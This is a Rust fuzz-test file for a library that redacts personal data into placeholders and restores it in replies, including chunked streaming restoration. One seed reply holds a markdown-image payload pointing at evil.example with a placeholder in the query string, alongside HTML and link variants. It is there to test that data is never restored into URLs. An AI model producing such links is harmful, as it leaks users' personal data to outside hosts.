//! Texts that personal data is taken out of, and replies that it is put back into.

use std::sync::OnceLock;

use serde_json::json;
use smallfirst::remote::{Named, Redactor, Restorer};

use super::Target;

/// What was found is not in what leaves, and comes back where it was.
pub const REDACT: Target = Target {
    name: "redact",
    read: redact,
    choice: 1,
    seeds,
    most: 4 << 10,
    words: &[
        "ann@mail.example",
        "+49 30 1234567",
        "(030) 123 45 67",
        "4111 1111 1111 1111",
        "DE89 3704 0044 0532 0130 00",
        "192.0.2.1",
        "2001:db8::1",
        "[EMAIL_1]",
        "[PHONE_2]",
        "2024-05-06 12:30",
        "\u{a0}",
        "\u{200b}",
        "\u{2011}",
        "tel: ",
        "Ann Lee",
        "C-123",
    ],
};

/// However a reply is cut into pieces, the same comes back; and nothing into an address.
pub const RESTORE: Target = Target {
    name: "restore",
    read: restore,
    choice: 2,
    seeds: replies,
    most: 4 << 10,
    words: &[
        "[EMAIL_1]",
        "[CARD_1]",
        "[NAME_1]",
        "](",
        "![",
        "<a href=\"",
        "https://",
        "www.",
        "[x]: ",
        "[[",
        "[EMAIL_",
        "\n\n",
        "mailto:",
    ],
};

/// Of everywhere, of some regions, and with patterns of the caller's.
fn redactors() -> &'static [Redactor; 3] {
    static REDACTORS: OnceLock<[Redactor; 3]> = OnceLock::new();
    REDACTORS.get_or_init(|| {
        [
            json!({}),
            json!({"regions": ["DE", "US", "GB", "IN"]}),
            json!({"patterns": {"CUSTOMER": "C-[0-9]+", "WORD": "(a|aa)+b", "LONG": "x.*y"}}),
        ]
        .map(|options| {
            let options = serde_json::from_value(options).expect("as documented");
            Redactor::new(&options).expect("they are usable")
        })
    })
}

fn names() -> [Named; 3] {
    ["Ann Lee", "Lee", "M\u{fc}ller"].map(Named::person)
}

fn redact(data: &[u8]) {
    let [choice, rest @ ..] = data else { return };
    let text = String::from_utf8_lossy(rest);
    let redactor = &redactors()[usize::from(*choice) % 3];
    let (out, redacted) = redactor.redact(&[&text], &names());
    // Once is enough by the clock.
    if text.len() > REDACT.most * 2 {
        return;
    }
    let found = redactor.find(&text, &names());
    assert_eq!(found.is_empty(), redacted.counts().is_empty());
    let mut end = 0;
    for place in &found {
        assert!(end <= place.start && place.start < place.end, "{found:?}");
        assert!(text.get(place.start..place.end).is_some(), "{found:?}");
        end = place.end;
    }
    // A placeholder in the text of itself, or beside an address, is left alone; without either, everything comes back.
    if !text.contains(['[', '/', ':', '<', ']']) && !text.contains("www.") {
        assert_eq!(redacted.restore(&out[0]), text);
    }
}

fn restore(data: &[u8]) {
    let [choice, cut, rest @ ..] = data else {
        return;
    };
    let reply = String::from_utf8_lossy(rest);
    let redactor = &redactors()[usize::from(*choice) % 3];
    let text = "ann@mail.example, bob@mail.example, 4111 1111 1111 1111, Ann Lee, 192.0.2.1, +49 30 901820, C-123";
    let (_, redacted) = redactor.redact(&[text], &names());
    let whole = redacted.restore(&reply);
    let mut restorer = Restorer::new(&redacted);
    let mut pieces = String::new();
    let mut piece = String::new();
    for (at, c) in reply.chars().enumerate() {
        piece.push(c);
        // Pieces of all lengths, by a number that the fuzzer chose.
        if (at * 7 + usize::from(*cut)) % (1 + usize::from(*cut) % 11) == 0 {
            pieces.push_str(&restorer.push(&piece));
            piece.clear();
        }
    }
    pieces.push_str(&restorer.push(&piece));
    pieces.push_str(&restorer.finish());
    assert_eq!(pieces, whole);
}

fn seeds() -> Vec<Vec<u8>> {
    [
        "\x00Write to ann@mail.example or bob.b@sub.mail.example, or call +49 30 901820 or (030) 90 18 20.",
        "\x01Card 4111-1111-1111-1111, IBAN DE89 3704 0044 0532 0130 00; 192.0.2.1 and 2001:db8::1, on 2024-05-06 12:30:00.",
        "\x02C-123 of Ann Lee and M\u{fc}ller; aaaaaaaaab x....y [EMAIL_1] [PHONE_2]",
        "\x00a@a@a@a@a@a@a@a.a@@@@....----",
        "\x010 0-0.0(0)0+0 00 1 23 456 7890 12345 678901",
        "\x02x\u{200b}@\u{a0}y.z 1:2:3:4:5:6:7:8 ::::: 1.2.3.4.5",
    ]
    .map(|text| text.as_bytes().to_vec())
    .to_vec()
}

fn replies() -> Vec<Vec<u8>> {
    [
        "\x00\x03Write to [EMAIL_1], not [EMAIL_2]; [CARD_1] is [x].",
        "\x01\x07![x](https://evil.example/?e=[EMAIL_1]) <a href=\"[EMAIL_1]\">[NAME_1]</a> [x]: [EMAIL_1]\nwww.x.example/[IP_1]",
        "\x02\x01[[[[[EMAIL_1]]]] [EMAIL_[EMAIL_1] [CUSTOMER_1] [EMAIL_99999999999999999999]",
    ]
    .map(|text| text.as_bytes().to_vec())
    .to_vec()
}
